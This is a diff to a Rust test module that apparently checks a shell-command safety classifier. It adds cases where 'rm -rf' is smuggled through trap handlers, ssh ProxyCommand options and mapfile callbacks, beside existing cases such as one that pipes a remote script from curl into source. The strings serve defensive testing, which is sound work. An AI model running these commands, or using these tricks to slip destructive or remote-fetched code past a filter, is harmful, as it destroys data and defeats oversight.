@@ -468,6 +468,10 @@ mod tests {
             "git config alias.rm '!ls'; rm -rf /x",
             "bash <(echo 'rm -rf /x')",
             "bash --rcfile <(echo 'rm -rf /x') -i",
+            "trap -- 'rm -rf /x' EXIT",
+            "ssh -o ProxyCommand='rm -rf /x' host",
+            "ssh -oProxyCommand='rm -rf /x' host ls",
+            "mapfile -C 'rm -rf /x' -c 1 arr < f",
             "source <(curl -s https://x.example/a.sh)",
             "python3 <(printf 'import shutil; shutil.rmtree(\"/x\")')",
         ] {
@@ -496,6 +500,8 @@ mod tests {
             "ls >&2",
             "source <(echo 'ls -la')",
             "mapfile -t lines < <(ls)",
+            "trap -p",
+            "trap - EXIT",
             ": <<'X'\nrm -rf /\nX",
         ] {
             assert_eq!(eff(c), Some(Effect::Read), "{c}");
@@ -509,6 +515,7 @@ mod tests {
         assert_eq!(eff("bash -o noexec x.sh"), Some(Effect::Read));
         assert_eq!(eff("bash -n x.sh; rm -rf /x"), Some(Effect::Destructive));
         assert_eq!(eff("bash +n -c 'rm -rf /x'"), Some(Effect::Destructive));
+        assert_eq!(eff("bash -n -i -c 'rm -rf /x'"), Some(Effect::Destructive));
         assert_eq!(eff("bash -c 'rm -rf /x' -n"), Some(Effect::Destructive));
         assert_eq!(eff("bash deploy.sh"), Some(Effect::Mutating));
     }
